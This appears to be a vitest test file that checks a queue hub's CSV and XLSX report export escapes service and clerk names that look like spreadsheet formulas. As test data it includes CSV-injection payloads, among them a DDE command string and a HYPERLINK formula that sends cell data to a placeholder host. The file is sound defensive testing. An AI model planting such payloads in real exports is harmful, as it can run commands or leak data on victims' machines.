import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FakeClock, MONDAY_MORNING } from '../testing/fake-clock.js';
import { startTestHub, type TestHub } from '../testing/start-test-hub.js';
import { readZipEntry } from '../testing/read-zip-entry.js';
import { testCenter, TU_PHAP, VISA, XNC } from '../testing/test-center.js';

const TODAY = '2026-11-23'; // MONDAY_MORNING's service day

// Service and clerk names an attacker with a console (or an admin account) could set.
const DDE = "=cmd|' /C calc'!A0";
const PLUS = '+1+1';
const MINUS = '-2+3';
const AT = '@SUM(1,2)';
const HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"bấm")';
const DASH = '-x';

describe('report export: names that look like formulas stay text (OWASP CSV injection)', () => {
  let t: TestHub;

  beforeAll(async () => {
    const config = testCenter();
    const services = config.areas[0]!.services;
    const rename = (id: string, name: string) => (services.find((s) => s.id === id)!.name = name);
    rename(TU_PHAP, DDE);
    rename(XNC, MINUS);
    rename(VISA, AT);
    t = await startTestHub({ clock: new FakeClock(MONDAY_MORNING), config });
    for (const service of [TU_PHAP, XNC, VISA]) expect((await t.issue(service)).status).toBe(201);
    // No clerks configured: counters send a free-text clerk name, which the clerk report shows.
    expect((await t.counterCommand(86, 'next', { clerk: PLUS })).status).toBe(200);
    expect((await t.counterCommand(66, 'next', { clerk: HYPERLINK })).status).toBe(200);
    expect((await t.counterCommand(68, 'next', { clerk: DASH })).status).toBe(200);
  });
  afterAll(async () => {
    expect(t.logs).toEqual([]);
    await t.stop();
  });

  const exportBytes = async (query: string) => {
    const response = await fetch(`${t.url}/api/admin/reports/export?from=${TODAY}&to=${TODAY}&${query}`, { headers: { authorization: `Bearer ${t.tokens.admin}` } });
    expect(response.status).toBe(200);
    return Buffer.from(await response.arrayBuffer());
  };

  it('CSV by service: each payload name is quoted and starts with a single quote; numbers stay bare', async () => {
    const text = (await exportBytes('format=csv&groupBy=service')).toString('utf8');
    const lines = text.slice(1).split('\r\n');
    const row = (label: string) => lines.find((l) => l.startsWith(label));
    expect(row(`"'=cmd|' /C calc'!A0",23/11/2026,23/11/2026,1,1,0,0,`)).toBeDefined();
    expect(row(`"'-2+3",23/11/2026,23/11/2026,1,1,`)).toBeDefined();
    expect(row(`"'@SUM(1,2)",23/11/2026,23/11/2026,1,1,`)).toBeDefined();
    // No line of the file starts a field with a formula character outside quotes.
    for (const line of lines) for (const field of line.split(',')) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });

  // The hub trims free-text names, so a leading tab or CR cannot arrive this way; csvField's unit test covers them.
  it('CSV by clerk: free-text clerk names get the same escape, inner quotes doubled', async () => {
    const bytes = await exportBytes('format=csv&groupBy=clerk');
    const text = bytes.toString('utf8');
    expect(text).toContain(`\r\n"'+1+1",23/11/2026,`);
    expect(text).toContain(`\r\n"'=HYPERLINK(""http://example.invalid/?""&A1,""bấm"")",23/11/2026,`);
    expect(text).toContain(`\r\n"'-x",23/11/2026,`);
    // The exact bytes of one escaped field: quote, apostrophe, the name, quote.
    expect(bytes.includes(Buffer.from([0x22, 0x27, 0x2b, 0x31, 0x2b, 0x31, 0x22, 0x2c]))).toBe(true);
  });

  it('XLSX: payload names are inline strings, no cell carries a formula, figures are numbers', async () => {
    const bytes = await exportBytes('format=xlsx&groupBy=service');
    const sheet = readZipEntry(bytes, 'xl/worksheets/sheet1.xml').toString('utf8');
    expect(sheet).not.toContain('<f>');
    expect(sheet).not.toMatch(/<f[ >]/);
    expect(sheet).toContain(`t="inlineStr"><is><t xml:space="preserve">=cmd|' /C calc'!A0</t></is>`);
    expect(sheet).toContain(`t="inlineStr"><is><t xml:space="preserve">-2+3</t></is>`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const ws = workbook.worksheets[0]!;
    const labels = ws.getColumn(1).values;
    for (const name of [DDE, MINUS, AT]) {
      const r = labels.indexOf(name);
      expect(r, name).toBeGreaterThan(1);
      expect(ws.getCell(r, 1).type).toBe(ExcelJS.ValueType.String);
      expect(ws.getCell(r, 4).value).toBe(1); // issued: a number cell
    }
  });
});
